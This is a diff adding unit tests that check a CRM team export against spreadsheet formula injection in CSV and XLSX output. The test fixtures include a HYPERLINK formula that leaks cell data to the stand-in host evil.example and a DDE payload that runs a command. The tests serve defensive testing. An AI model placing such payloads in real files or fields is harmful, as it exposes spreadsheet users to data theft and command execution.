@@ -84,6 +84,45 @@ class TestTeamExport(ConferenceCrmCase):
         self.assertEqual(rows[0], DEFAULT_HEADER)
         self.assertEqual(len(rows) - 1, len(self._expected_rows(self.team_a)))
 
+    def _create_formula_lead(self):
+        return self.env["crm.lead"].sudo().create(self._lead_vals(
+            "formula", "phone_sales", self.product_a, "se2", self.team_a,
+            contact_first_name='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+            contact_last_name="@SUM(1+1)*cmd|' /C calc'!A0",
+            function="+1+2",
+            partner_name="-2+3",
+        ))
+
+    def test_csv_neutralises_formulas(self):
+        self._create_formula_lead()
+        self.env["crm.lead"].sudo().create([
+            self._lead_vals(f"ctl{i}", "phone_sales", self.product_a, "se2", self.team_a,
+                            contact_first_name=value, contact_last_name="Plain")
+            for i, value in enumerate(("\tTab", "\rReturn"))
+        ])
+        content, _filename = self._export("se")
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+        self.assertIn(
+            ["'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
+             "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+2", "'-2+3"],
+            rows[1:],
+        )
+        first_names = [row[0] for row in rows[1:]]
+        self.assertIn("'\tTab", first_names)
+        self.assertIn("'\rReturn", first_names)
+        for row in rows:
+            for value in row:
+                self.assertFalse(value.startswith(("=", "+", "-", "@", "\t", "\r")), value)
+
+    def test_xlsx_writes_no_formula(self):
+        self._create_formula_lead()
+        content, _filename = self._export("se", "xlsx")
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        self.assertIn('=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+                      [cell.value for cell in cells])
+        self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
+
     def test_refused_for_roles_without_team_export(self):
         for role in ("p", "pd", "jre", "hm"):
             with self.subTest(role=role), self.assertRaises(AccessError):
